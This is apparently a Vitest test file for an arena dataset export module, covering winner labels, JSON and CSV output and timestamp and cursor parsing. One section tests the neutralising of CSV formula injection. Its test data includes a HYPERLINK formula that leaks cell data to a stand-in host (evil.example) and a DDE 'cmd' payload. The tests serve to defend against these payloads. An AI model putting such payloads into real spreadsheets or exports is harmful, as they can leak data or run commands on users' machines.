// Starts no server, store or engine: it does not wait for the run's fixtures.
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvField, csvRow, EXPORT_FIELDS, jsonLine, parseExportCursor, parseExportTime, winnerOf, type ExportRow } from '../../server/modules/arena/export-format.ts';

const row: ExportRow = {
  round_id: 42,
  revision: 7,
  question_id: '96d61fe343ddf5e0d8d68b1d0b08b9af',
  model_a: 'LSA lsa-96',
  model_b: 'SIF sif-150',
  winner: 'model_a',
  judge: 'ab'.repeat(16),
  user_type: 'Ustaz',
  tstamp: 1795424400.123,
  query: 'Patience, "sabr",\nand gratitude',
  passage_a: 'ch7-13',
  passage_b: 'ch1-19',
  passage_set: 'v1',
  text_a: 'He said, “Patience is the key to joy.”',
  text_b: 'The heart is a mirror.',
  reaction_a: '👍',
  reaction_b: '👎',
  counted: true,
  left_out_reason: '',
  kind: 'round',
};

describe('the export’s rows', () => {
  it('name the winner as public arena datasets do', () => {
    expect(winnerOf('👍', '🤷')).toBe('model_a');
    expect(winnerOf('👎', '🤷')).toBe('model_b');
    expect(winnerOf('👍', '👍')).toBe('tie');
    expect(winnerOf('🤷', '🤷')).toBe('tie');
    expect(winnerOf('👎', '👎')).toBe('tie (bothbad)');
    expect(winnerOf('👍', null)).toBe('');
    expect(winnerOf(null, '👎')).toBe('');
  });

  it('are one JSON object a line, the fields in order', () => {
    const line = jsonLine(row);
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(Object.keys(JSON.parse(line))).toEqual(EXPORT_FIELDS);
    expect(JSON.parse(line)).toEqual(row);
  });

  it('are CSV records by RFC 4180: quoted where a field holds a comma, a quote or a line break, quotes doubled, CRLF ended', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(CSV_HEADER).toBe(`${EXPORT_FIELDS.join(',')}\r\n`);
    expect(csvRow(row)).toBe(
      `42,7,96d61fe343ddf5e0d8d68b1d0b08b9af,LSA lsa-96,SIF sif-150,model_a,${'ab'.repeat(16)},Ustaz,1795424400.123,"Patience, ""sabr"",\nand gratitude",ch7-13,ch1-19,v1,"He said, “Patience is the key to joy.”",The heart is a mirror.,👍,👎,true,,round\r\n`,
    );
  });
});

describe('the export’s CSV cells a spreadsheet could run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['@cmd', "'@cmd"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('gives %j a single quote in front, as OWASP says', (text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  it('leaves other text, and numbers and booleans, as they are', () => {
    expect(csvField('patience = sabr')).toBe('patience = sabr');
    expect(csvField("'quoted'")).toBe("'quoted'");
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(true)).toBe('true');
  });

  it('escapes a query and a model_type in a whole row', () => {
    const record = csvRow({ ...row, query: '=HYPERLINK("x")', model_a: '@cmd', model_b: '-SIF' });
    expect(record).toContain(`"'=HYPERLINK(""x"")"`);
    expect(record).toContain(",'@cmd,'-SIF,");
  });
});

describe('the export’s --since and --after', () => {
  it.each([
    ['2026-11-23T09:00:00Z', '2026-11-23T09:00:00.000Z'],
    ['2026-11-23T09:00Z', '2026-11-23T09:00:00.000Z'],
    ['2026-11-23T10:30:15.250+01:30', '2026-11-23T09:00:15.250Z'],
    ['2026-11-23T04:00:00-05:00', '2026-11-23T09:00:00.000Z'],
    ['2024-02-29T00:00:00Z', '2024-02-29T00:00:00.000Z'],
    ['0001-01-01T00:00:00Z', '0001-01-01T00:00:00.000Z'],
  ])('reads %s as %s', (text, iso) => {
    expect((parseExportTime(text) as Date).toISOString()).toBe(iso);
  });

  it.each([
    ['2026-02-31T00:00:00Z', 'there is no day 31 in month 02 of 2026'],
    ['2026-02-29T00:00:00Z', 'there is no day 29 in month 02 of 2026'],
    ['2026-13-01T00:00:00Z', 'there is no month 13'],
    ['0000-01-01T00:00:00Z', 'there is no year 0'],
    ['2026-11-23T24:00:00Z', '24:00:00 is no time of day'],
    ['2026-11-23T09:00:00+25:00', '+25:00 is no zone offset'],
    ['2026-11-23', 'it needs a time and a zone, such as 2026-11-23T00:00:00Z'],
    ['2026-11-23T09:00:00', 'it needs a time and a zone, such as 2026-11-23T00:00:00Z'],
    ['0000-01-01', 'it needs a time and a zone, such as 0000-01-01T00:00:00Z'],
    ['last week', 'it must be an ISO 8601 time with a zone, such as 2026-11-23T09:00:00Z'],
    ['2026-11-23 09:00:00Z', 'it must be an ISO 8601 time with a zone, such as 2026-11-23T09:00:00Z'],
  ])('refuses %s: %s', (text, why) => {
    expect(parseExportTime(text)).toBe(why);
  });

  it('takes a cursor as a whole number only', () => {
    expect(parseExportCursor('0')).toBe('0');
    expect(parseExportCursor('1234')).toBe('1234');
    for (const bad of ['', '-1', '01', '1.5', '1e3', 'abc', '9'.repeat(19)]) expect(parseExportCursor(bad)).toBeNull();
  });
});
